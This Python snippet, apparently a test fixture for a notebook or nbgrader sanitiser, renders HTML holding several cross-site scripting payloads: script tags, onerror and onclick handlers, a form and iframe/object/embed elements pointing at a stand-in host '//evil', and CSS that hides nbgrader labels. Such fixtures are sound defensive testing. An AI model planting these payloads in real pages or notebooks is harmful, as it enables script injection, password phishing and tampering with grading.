"""Displays HTML with a script, with handlers and with a form that asks for the password."""
# says: IPython.core.display.HTML object

from IPython.display import HTML, display

display(HTML("<script>alert('evil')</script><img src=x onerror=alert('evil')><form action=//evil><input></form>"))
display({"text/html": "<style>.nbgrader-label { display: none }</style><div onclick=evil()>x</div>"}, raw=True)
HTML("<iframe src='//evil'></iframe><object data='//evil'></object><embed src='//evil'>")
